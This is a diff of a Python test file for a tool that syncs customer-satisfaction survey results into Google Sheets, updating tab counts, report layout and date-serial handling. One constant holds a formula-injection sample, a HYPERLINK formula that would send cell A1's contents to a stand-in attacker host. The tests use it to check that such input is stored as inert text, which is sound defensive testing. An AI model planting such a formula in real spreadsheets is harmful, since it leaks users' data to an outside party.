@@ -6,13 +6,16 @@ from datetime import UTC
 from datetime import datetime
 from datetime import timedelta
 
+import pytest
+
 from csat_hook.devtools import sheets_model
 from csat_hook.devtools.sheets_model import Formula
 from csat_hook.sync.google.api import SheetsApi
+from csat_hook.sync.layout import Grid
 from csat_hook.sync.outputs.sheets import SheetsOutput
-from csat_hook.sync.report import Table
 from tests.sync.conftest import EN_HEADER
 from tests.sync.conftest import SHEET_ID
+from tests.sync.conftest import leaderboard
 
 T0 = datetime(2026, 11, 18, 9, 0, tzinfo=UTC)
 FORMULA_COMMENT = '=HYPERLINK("https://evil.example/?"&A1,"click")'
@@ -45,9 +48,10 @@ def test_a_whole_sync_stays_within_three_reads_and_three_writes(kit):
     assert summary.status == "ok", summary.error
     reads, writes = kit.fake.count("sheets_read"), kit.fake.count("sheets_write")
     assert reads <= 3 and writes <= 3
-    assert (reads, writes) == (2, 2)  # metadata + responses; structure + values
+    assert (reads, writes) == (2, 2)  # metadata + responses; structure and looks + values
     assert summary.requests["sheets_read"] == reads and summary.requests["sheets_write"] == writes
-    assert len(kit.fake.titles(SHEET_ID)) == 1 + 30 + 2  # responses, 30 agents, summary, unverified
+    # the form's responses, Summary, Trends, Responses, 30 agents, Unverified
+    assert len(kit.fake.titles(SHEET_ID)) == 1 + 3 + 30 + 1
 
 
 def test_values_are_written_raw_as_json_numbers(kit):
@@ -81,7 +85,14 @@ def test_values_are_written_raw_as_json_numbers(kit):
     [body] = captured
     assert body["valueInputOption"] == "RAW"
     anna = next(d for d in body["data"] if d["range"].startswith("'Anna Petrova (7)'!"))
-    assert anna["values"][1][:4] == ["2026-11-18 10:00", "T-2", 5, "+1 and -1 and @here"]
+    # The submission time is a date-time serial (days since 1899-12-30, metrics.timezone).
+    serial = (datetime(2026, 11, 18, 10, 0) - datetime(1899, 12, 30)) / timedelta(days=1)
+    assert anna["values"][1][:4] == [
+        pytest.approx(serial, abs=1e-7),
+        "T-2",
+        5,
+        "+1 and -1 and @here",
+    ]
     assert isinstance(anna["values"][1][2], int)
     stored = kit.sheet("Anna Petrova (7)")
     assert stored[2][3] == FORMULA_COMMENT and not isinstance(stored[2][3], Formula)
@@ -182,7 +193,7 @@ def test_old_extents_are_overwritten_with_blanks_not_cleared_separately(kit):
     assert summary.status == "ok", summary.error
     cells = kit.sheet("Summary")
     assert not any(v == "stale" for row in cells for v in row)
-    assert cells[0][0] == "CSAT report"
+    assert cells[0][0].startswith("CSAT report — Last 30 days")
     paths = [r["path"] for r in kit.fake.api_requests("sheets_write")]
     assert not any("clear" in p.lower() for p in paths)
 
@@ -200,7 +211,9 @@ def test_the_responses_tab_is_never_written(kit):
 
 def test_a_large_report_is_split_between_whole_tabs(kit):
     seed(kit, agents=20, per_agent=40)
-    config = kit.config(output={"gsheets": {"max_request_bytes": 100_000}})
+    config = kit.config(
+        output={"gsheets": {"max_request_bytes": 100_000, "max_response_rows": 200}}
+    )
     summary = kit.run(config)
     assert summary.status == "ok", summary.error
     value_writes = [
@@ -212,7 +225,9 @@ def test_a_large_report_is_split_between_whole_tabs(kit):
 
 def test_a_report_too_large_for_the_budget_fails_before_writing(kit):
     seed(kit, agents=40, per_agent=40)
-    summary = kit.run(kit.config(output={"gsheets": {"max_request_bytes": 100_000}}))
+    summary = kit.run(
+        kit.config(output={"gsheets": {"max_request_bytes": 100_000, "max_response_rows": 200}})
+    )
     assert summary.status == "failed"
     assert "output.gsheets.max_rows_per_agent" in summary.error
     assert kit.fake.count("sheets_write") == 0
@@ -229,6 +244,8 @@ def test_a_separate_report_spreadsheet_costs_one_more_read(kit):
     assert (kit.fake.count("sheets_read"), kit.fake.count("sheets_write")) == (3, 2)
     assert kit.fake.titles("report-sheet") == [
         "Summary",
+        "Trends",
+        "Responses",
         "Sheet1",
         "Anna Petrova (7)",
         "Unverified",
@@ -244,12 +261,10 @@ def test_agents_with_surveys_but_no_answers_yet(kit):
 
     assert summary.status == "ok", summary.error
     rows = kit.sheet("Summary")
-    assert rows[0][:2] == ["CSAT report", "no answers yet"]
-    boris = next(r for r in rows[3:] if r[3] == "Agent" and r[0] == "All time")
-    header = rows[2]
-    record = dict(zip(header, boris + [None] * (len(header) - len(boris)), strict=True))
-    assert (record["Surveys sent"], record["Answers"], record["Response rate %"]) == (4, 0, 0.0)
-    assert record["CSAT %"] is None and record["Below min n"] == "yes"
+    assert rows[1][3] == "Latest answer: no answers yet"
+    record = leaderboard(rows)["Boris Ivanov"]
+    assert (record["Surveys sent"], record["Answers"], record["Response rate"]) == (4, 0, 0.0)
+    assert record["CSAT"] is None and record["Rank"] == "not enough answers"
     assert "Boris Ivanov (8)" not in kit.fake.titles(SHEET_ID)  # no answers, no tab
 
 
@@ -265,7 +280,7 @@ def test_tabs_created_but_the_answer_lost_the_run_goes_on(kit):
 
     assert summary.status == "ok", summary.error
     titles = kit.fake.titles(SHEET_ID)
-    assert len(titles) == len(set(titles)) == 1 + 3 + 2
+    assert len(titles) == len(set(titles)) == 1 + 3 + 3 + 1
     assert kit.sheet("Agent 00 (100)")[1][3] == "comment 0/1"
     writes = kit.fake.api_requests("sheets_write")
     assert [(w["path"].rsplit("/", 1)[-1], w["status"]) for w in writes] == [
@@ -284,7 +299,7 @@ def test_tabs_created_but_answered_with_a_503_the_run_goes_on(kit):
     summary = kit.run()
 
     assert summary.status == "ok", summary.error
-    assert len(kit.fake.titles(SHEET_ID)) == 1 + 2 + 2
+    assert len(kit.fake.titles(SHEET_ID)) == 1 + 2 + 3 + 1
     assert [w["status"] for w in kit.fake.api_requests("sheets_write")] == [503, 400, 200]
 
 
@@ -296,14 +311,14 @@ def test_a_tab_taken_meanwhile_is_planned_around(fake_google, google_session):
     api = SheetsApi(google_session)
     api.metadata(SHEET_ID)  # read before the manager adds "Summary"
     fake_google.add_tab(SHEET_ID, "Summary", [["a manager's notes"]])
-    tables = [
-        Table("Summary", "summary", [["Agent", "CSAT %"], ["Anna", 100]]),
-        Table("Anna", "agent", [["Date", "Rating"], ["2026-11-18", 5]], key="7"),
+    grids = [
+        Grid("Summary", "summary", [["Agent", "CSAT"], ["Anna", 1.0]]),
+        Grid("Anna", "agent", [["Date", "Rating"], ["2026-11-18", 5]], key="7"),
     ]
-    done = SheetsOutput(api, SHEET_ID).write(tables)
+    done = SheetsOutput(api, SHEET_ID).write(grids, "en")
 
     assert fake_google.titles(SHEET_ID) == ["Form Responses 1", "Summary", "Anna (7)"]
-    assert fake_google.cells(SHEET_ID, "Summary")[:2] == [["Agent", "CSAT %"], ["Anna", 100]]
+    assert fake_google.cells(SHEET_ID, "Summary")[:2] == [["Agent", "CSAT"], ["Anna", 1.0]]
     assert [w["status"] for w in fake_google.api_requests("sheets_write")] == [400, 200, 200]
     assert done["write_requests"] == 3
 
